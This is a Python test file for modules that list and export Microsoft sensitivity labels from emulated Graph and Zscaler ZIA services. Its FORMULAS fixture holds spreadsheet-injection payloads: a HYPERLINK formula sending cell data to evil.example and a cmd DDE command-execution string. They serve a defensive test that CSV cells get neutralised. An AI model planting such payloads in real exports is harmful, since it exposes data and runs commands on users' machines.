"""mip_labels_info and mip_labels_export against the emulated Graph label store and ZIA."""

import csv
import json
import os
import stat

import pytest

LABELS = "mipconnect.zia.mip_labels_info"
EXPORT = "mipconnect.zia.mip_labels_export"
MIP = "mipconnect.zia.mip_account"


def reader(tenant, role):
    """A client holding one Graph label permission (or none)."""
    return tenant.emulator.create_client(tenant.tenant_id, graph_roles=[role] if role else [])


def run_labels(tenant, args, client, module=LABELS, **kwargs):
    return tenant.run_module(args, module=module, client=client, **kwargs)


def assert_ok(run):
    assert not run.result.get("failed"), run.result.get("msg") or run.output


@pytest.mark.parametrize("role, endpoint, source", [
    ("InformationProtectionPolicy.Read.All", "beta", "graph_beta"),
    ("SensitivityLabels.Read.All", "v1.0", "graph_v1.0"),
])
def test_auto_picks_the_endpoint_the_token_opens(tenant, role, endpoint, source):
    run = run_labels(tenant, {}, reader(tenant, role))
    assert_ok(run)
    assert run.result["endpoint"] == endpoint
    assert run.result["endpoints_tried"] == [{"endpoint": endpoint, "status": 200, "code": None}]
    names = [label["name"] for label in run.result["labels"]]
    expected = [label["name"] for label in tenant.emulator.labels(tenant.tenant_id)]
    assert sorted(names) == sorted(expected)
    assert all(label["source"] == source for label in run.result["labels"])
    subs = [label for label in run.result["labels"] if label["parent_id"]]
    assert subs and all(label["parent_name"] for label in subs)


def test_both_endpoints_give_the_same_labels(tenant):
    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=["InformationProtectionPolicy.Read.All",
                                                                          "SensitivityLabels.Read.All"])
    beta = run_labels(tenant, {"endpoint": "beta"}, client)
    v1 = run_labels(tenant, {"endpoint": "v1.0"}, client)
    assert_ok(beta)
    assert_ok(v1)

    def key(label):
        return (label["id"], label["name"], label["parent_id"], label["priority"])
    assert sorted(map(key, beta.result["labels"])) == sorted(map(key, v1.result["labels"]))


def test_v1_records_say_unknown_for_what_v1_does_not_have(tenant):
    run = run_labels(tenant, {}, reader(tenant, "SensitivityLabels.Read.All"))
    assert_ok(run)
    for label in run.result["labels"]:
        assert label["source"] == "graph_v1.0"
        assert (label["active"], label["appliable"], label["content_formats"], label["color"]) == (
            None, None, None, None)
        assert label["display_name"] and label["priority"] is not None
    # The sub-labels came from $expand=sublabels, which the module asks for on v1.0.
    pages = [r for r in run.requests if "sensitivityLabels" in r["path"]]
    assert pages and "expand=sublabels" in pages[0]["query"], pages


def test_v1_filters_that_cannot_be_evaluated_keep_labels_and_say_so(tenant):
    tenant.emulator.add_labels(tenant.tenant_id, [{"name": "Retired", "isActive": False},
                                                  {"name": "Mail only", "contentFormats": ["email"]}])
    run = run_labels(tenant, {"active_only": True, "appliable_to": ["file"]},
                     reader(tenant, "SensitivityLabels.Read.All"))
    assert_ok(run)
    names = {label["name"] for label in run.result["labels"]}
    assert {"Retired", "Mail only"} <= names
    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
    assert run.result["filters_not_evaluated"] == {"active_only": run.result["count"],
                                                   "appliable_to": run.result["count"]}
    assert any("active_only could not be evaluated" in w for w in run.result.get("warnings", [])), run.output


@pytest.mark.parametrize("role", ["InformationProtectionPolicy.Read.All", "SensitivityLabels.Read.All"])
def test_tree_nests_sub_labels_under_their_parent(tenant, role):
    run = run_labels(tenant, {"return_tree": True, "return_labels": False}, reader(tenant, role))
    assert_ok(run)
    assert "labels" not in run.result
    shown = dict((node["name"], [child["name"] for child in node["children"]]) for node in run.result["tree"])
    assert shown == {"Public": [], "General": [], "Confidential": ["All Employees", "Anyone (unrestricted)"],
                     "Highly Confidential": ["All Employees", "Specified People"]}
    child = run.result["tree"][2]["children"][0]
    assert child["parent_id"] == run.result["tree"][2]["id"] and child["children"] == []
    assert "account" not in child
    filtered = run_labels(tenant, {"return_tree": True, "name_pattern": "^All"}, reader(tenant, role))
    assert [(n["name"], n["parent_name"]) for n in filtered.result["tree"]] == [
        ("All Employees", "Confidential"), ("All Employees", "Highly Confidential")]


BETA_PATH = r"^/graph/beta/security/informationProtection/sensitivityLabels"
BOTH_ROLES = ["InformationProtectionPolicy.Read.All", "SensitivityLabels.Read.All"]


@pytest.mark.parametrize("status", [403, 404])
def test_auto_falls_back_when_the_chosen_endpoint_refuses(tenant, status):
    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=BOTH_ROLES)
    tenant.emulator.add_fault(method="GET", path=BETA_PATH, status=status, times=1)
    run = run_labels(tenant, {}, client)
    assert_ok(run)
    assert run.result["endpoint"] == "v1.0"
    tried = [(t["endpoint"], t["status"]) for t in run.result["endpoints_tried"]]
    assert tried == [("beta", status), ("v1.0", 200)]
    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
    assert all(label["source"] == "graph_v1.0" for label in run.result["labels"])


def test_no_fallback_without_auto_nor_when_both_refuse(tenant):
    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=BOTH_ROLES)
    tenant.emulator.add_fault(method="GET", path=BETA_PATH, status=403, times=1)
    pinned = run_labels(tenant, {"endpoint": "beta"}, client)
    assert pinned.result["failed"] and pinned.result["error"]["status"] == 403
    assert not [r for r in pinned.requests if "dataSecurityAndGovernance" in r["path"]]

    # The token says beta; beta is not there, and v1.0 refuses this token: the error names both.
    tenant.emulator.add_fault(method="GET", path=BETA_PATH, status=404, times=1)
    both = run_labels(tenant, {}, reader(tenant, "InformationProtectionPolicy.Read.All"))
    assert both.result["failed"] and both.result["error"]["status"] == 403
    assert "SensitivityLabels.Read.All" in both.result["msg"] and "beta endpoint answered 404" in both.result["msg"]


def test_missing_permission_names_it_and_the_consent_url(tenant):
    run = run_labels(tenant, {}, reader(tenant, None))
    assert run.result["failed"]
    assert "InformationProtectionPolicy.Read.All" in run.result["msg"]
    assert "adminconsent" in run.result["msg"]


def test_forbidden_endpoint_says_which_permission(tenant):
    run = run_labels(tenant, {"endpoint": "v1.0"}, reader(tenant, "InformationProtectionPolicy.Read.All"))
    assert run.result["failed"]
    assert run.result["error"]["status"] == 403
    assert "SensitivityLabels.Read.All" in run.result["msg"]


def test_info_changes_nothing_and_refuses_the_export_options(tenant):
    client = reader(tenant, "InformationProtectionPolicy.Read.All")
    run = run_labels(tenant, {"return_tree": True}, client)
    assert_ok(run)
    assert run.result["changed"] is False
    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
    assert "files" not in run.result
    csv_path = tenant.tmp_path / "labels.csv"
    refused = run_labels(tenant, {"csv_path": str(csv_path)}, client)
    assert refused.result["failed"] and "csv_path" in refused.result["msg"]
    assert not csv_path.exists() and refused.requests == []


def test_csv_and_json_written_once_then_unchanged(tenant):
    client = reader(tenant, "InformationProtectionPolicy.Read.All")
    csv_path = str(tenant.tmp_path / "labels.csv")
    json_path = str(tenant.tmp_path / "labels.json")
    args = {"csv_path": csv_path, "json_path": json_path}

    planned = run_labels(tenant, args, client, module=EXPORT, check=True, diff=True)
    assert_ok(planned)
    assert planned.result["changed"] is True
    assert not os.path.exists(csv_path) and not os.path.exists(json_path)
    assert planned.result["diff"]["before"] == {csv_path: None, json_path: None}
    assert planned.result["diff"]["after"][csv_path]["mode"] == "0640"

    first = run_labels(tenant, args, client, module=EXPORT, diff=True)
    assert_ok(first)
    assert first.result["changed"] is True
    assert "labels" not in first.result
    # Check mode predicted exactly the content the real run wrote.
    assert first.result["diff"]["after"] == planned.result["diff"]["after"]
    for path in (csv_path, json_path):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o640
    with open(csv_path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == first.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
    assert {"Label Name", "Label ID", "Parent Label", "Priority"} <= set(rows[0])
    with open(json_path, encoding="utf-8") as handle:
        assert len(json.load(handle)) == first.result["count"]

    # source: graph without account_name: the Account Name column names the Entra tenant read.
    assert {row["Account Name"] for row in rows} == {tenant.tenant_id.lower()}

    second = run_labels(tenant, args, client, module=EXPORT)
    assert_ok(second)
    assert second.result["changed"] is False
    assert all(not f["changed"] for f in second.result["files"])

    # Same content, another mode: check mode says it would change and leaves it; a real run sets 0640.
    with open(csv_path, "rb") as handle:
        content = handle.read()
    os.chmod(csv_path, 0o644)
    planned_mode = run_labels(tenant, args, client, module=EXPORT, check=True)
    assert_ok(planned_mode)
    assert [(f["path"], f["changed"]) for f in planned_mode.result["files"]] == [(csv_path, True), (json_path, False)]
    assert stat.S_IMODE(os.stat(csv_path).st_mode) == 0o644
    fixed_mode = run_labels(tenant, args, client, module=EXPORT)
    assert_ok(fixed_mode)
    assert fixed_mode.result["changed"] is True
    assert stat.S_IMODE(os.stat(csv_path).st_mode) == 0o640
    with open(csv_path, "rb") as handle:
        assert handle.read() == content
    assert run_labels(tenant, args, client, module=EXPORT).result["changed"] is False

    tenant.emulator.rename_label(tenant.tenant_id, rows[0]["Label ID"], "Renamed label")
    third = run_labels(tenant, args, client, module=EXPORT)
    assert third.result["changed"] is True
    assert [f["changed"] for f in third.result["files"]] == [True, True]


def test_filters(tenant):
    client = reader(tenant, "InformationProtectionPolicy.Read.All")
    run = run_labels(tenant, {"parent": "Confidential", "name_pattern": "^All"}, client)
    assert_ok(run)
    assert [label["name"] for label in run.result["labels"]] == ["All Employees"]


def test_active_and_appliable_filters_exclude_what_they_should(tenant):
    added = tenant.emulator.add_labels(tenant.tenant_id, [
        {"name": "Retired", "isActive": False},
        {"name": "Mail only", "contentFormats": ["email"]},
        {"name": "Files only", "contentFormats": ["file"]},
        {"name": "Everywhere", "contentFormats": ["file", "email", "site"]},
        {"name": "Project parent", "contentFormats": ["file", "email"]},
    ])
    tenant.emulator.add_labels(tenant.tenant_id, [
        {"name": "Project child", "parentId": added[4]["id"], "contentFormats": ["file", "email"]}])
    client = reader(tenant, "InformationProtectionPolicy.Read.All")

    def names(run):
        return {label["name"] for label in run.result["labels"]}

    active = run_labels(tenant, {"active_only": True}, client)
    assert_ok(active)
    assert "Retired" not in names(active)
    assert {"Mail only", "Files only", "Everywhere", "Project parent", "Project child"} <= names(active)

    both = run_labels(tenant, {"appliable_to": ["file", "email"]}, client)
    assert_ok(both)
    assert not {"Mail only", "Files only"} & names(both)
    # A parent of sub-labels cannot be applied, whatever its content formats.
    assert not {"Project parent", "Confidential", "Highly Confidential"} & names(both)
    assert {"Retired", "Everywhere", "Project child", "Public", "All Employees"} <= names(both)
    assert both.result["filters_not_evaluated"] == {}

    mail = run_labels(tenant, {"appliable_to": ["email"], "active_only": True}, client)
    assert_ok(mail)
    assert "Mail only" in names(mail) and "Files only" not in names(mail) and "Retired" not in names(mail)


def test_many_labels_over_many_pages(tenant):
    tenant.emulator.seed_labels(tenant.tenant_id, count=300, sublabels_per_label=2)
    run = run_labels(tenant, {"page_size": 50, "csv_path": str(tenant.tmp_path / "many.csv")},
                     reader(tenant, "InformationProtectionPolicy.Read.All"), module=EXPORT)
    assert_ok(run)
    assert run.result["count"] == 900
    pages = [r for r in run.requests if "sensitivityLabels" in r["path"]]
    assert len(pages) == 18


def test_drift_between_microsoft_and_zia(tenant, emulator):
    client_id, client_secret = tenant.make_connector()
    account = tenant.run_module({"name": "Drift", "tenant_id": tenant.tenant_id, "client_id": client_id,
                                 "client_secret": client_secret, "label_retrieval": True,
                                 "wait_for": "labels_retrieved", "wait_timeout": 60}, module=MIP, zia="oneapi")
    assert_ok(account)
    labels = emulator.labels(tenant.tenant_id)
    renamed, deleted = labels[0], labels[1]
    emulator.rename_label(tenant.tenant_id, renamed["id"], "New name")
    emulator.delete_label(tenant.tenant_id, deleted["id"])
    added = emulator.add_labels(tenant.tenant_id, [{"name": "Brand new"}])[0]

    client = {"client_id": client_id, "client_secret": client_secret}
    run = tenant.run_module({"source": "both", "account_name": "Drift", "return_labels": False},
                            module=LABELS, client=client, zia="oneapi")
    assert_ok(run)
    drift = run.result["drift"]
    assert [d["id"] for d in drift["not_in_zia_policy"]] == [added["id"]]
    assert deleted["id"] in [d["id"] for d in drift["deleted_in_microsoft"]]
    assert drift["renamed"] == [{"id": renamed["id"], "microsoft_name": "New name", "zia_name": renamed["name"]}]

    zia_only = tenant.run_module({"source": "zia", "account_name": "Drift"}, module=LABELS, zia="oneapi")
    assert_ok(zia_only)
    assert zia_only.result["count"] == len(labels)
    assert all(label["source"] == "zia" for label in zia_only.result["labels"])

    # With the account's id the labels are read without listing every account.
    by_id = tenant.run_module({"source": "zia", "account_name": "Drift", "account_id": account.result["account"]["id"],
                               "return_labels": False}, module=LABELS, zia="oneapi")
    assert_ok(by_id)
    assert by_id.result["count"] == zia_only.result["count"]
    zia_reads = [r["path"] for r in by_id.requests if "/zia/api/v1/" in r["path"]]
    assert zia_reads and all(path.endswith("/tags/policy") for path in zia_reads), zia_reads
    unknown = tenant.run_module({"source": "zia", "account_name": "Drift", "account_id": 999999999},
                                module=LABELS, zia="oneapi")
    assert unknown.result["failed"]
    assert "no MIP account with id 999999999" in unknown.result["msg"]


@pytest.mark.parametrize("module, args, option", [
    (LABELS, {"source": "zia"}, "account_name"),
    (LABELS, {"name_pattern": "("}, "name_pattern"),
    (EXPORT, {"csv_path": "/nonexistent-dir/labels.csv"}, "csv_path"),
    (EXPORT, {"json_path": "/tmp/labels.json", "page_size": 0}, "page_size"),
])
def test_bad_input_fails_before_any_request(tenant, module, args, option):
    run = run_labels(tenant, args, reader(tenant, None), module=module)
    assert run.result["failed"]
    assert option in run.result["msg"]
    assert run.requests == []


FORMULAS = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\tTabbed", "\rReturned"]


def test_csv_cells_that_start_a_formula_are_neutralised_json_stays_exact(tenant):
    tenant.emulator.add_labels(tenant.tenant_id, [{"name": name} for name in FORMULAS])
    client = reader(tenant, "InformationProtectionPolicy.Read.All")
    csv_path, json_path = str(tenant.tmp_path / "labels.csv"), str(tenant.tmp_path / "labels.json")
    run = run_labels(tenant, {"csv_path": csv_path, "json_path": json_path, "name_pattern": r"^[=+\-@\t\r]"},
                     client, module=EXPORT)
    assert_ok(run)
    with open(csv_path, encoding="utf-8", newline="") as handle:
        names = [row["Label Name"] for row in csv.DictReader(handle)]
    assert sorted(names) == sorted("'" + name for name in FORMULAS)
    with open(json_path, encoding="utf-8") as handle:
        assert sorted(label["name"] for label in json.load(handle)) == sorted(FORMULAS)

    exact = run_labels(tenant, {"csv_path": csv_path, "csv_escape_formulas": False, "name_pattern": r"^[=+\-@\t\r]"},
                       client, module=EXPORT)
    assert_ok(exact)
    assert exact.result["changed"] is True
    with open(csv_path, encoding="utf-8", newline="") as handle:
        assert sorted(row["Label Name"] for row in csv.DictReader(handle)) == sorted(FORMULAS)


@pytest.mark.parametrize("cloud, roles, endpoint", [
    ("public", ["InformationProtectionPolicy.Read.All"], "beta"),
    ("usgov_dod", ["InformationProtectionPolicy.Read.All", "SensitivityLabels.Read.All"], "v1.0"),
])
def test_a_guests_labels_in_each_cloud(tenant_in, cloud, roles, endpoint):
    """A guest's UPN holds '#': it must reach Graph whole. US Government has only v1.0, whose per-user
    path has no /security segment; beta is not asked there even with its permission."""
    tenant = tenant_in(cloud)
    guest = next(u for u in tenant.state()["users"] if "#EXT#" in u["userPrincipalName"])
    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=roles)
    run = run_labels(tenant, {"user_id": guest["userPrincipalName"]}, client)
    assert_ok(run)
    assert run.result["endpoint"] == endpoint
    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
    asked = [r["path"] for r in run.requests if r["service"] == "graph"]
    assert asked and all(guest["userPrincipalName"] in path for path in asked)
    assert {path.split("/")[2] for path in asked} == {endpoint}


def test_china_has_no_graph_labels_and_says_to_read_zia(tenant_in):
    tenant = tenant_in("china")
    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=["SensitivityLabels.Read.All"])
    run = run_labels(tenant, {}, client)
    assert run.result["failed"]
    assert "China" in run.result["msg"] and "source: zia" in run.result["error"]["hint"]
    assert not [r for r in run.requests if r["service"] == "graph"]
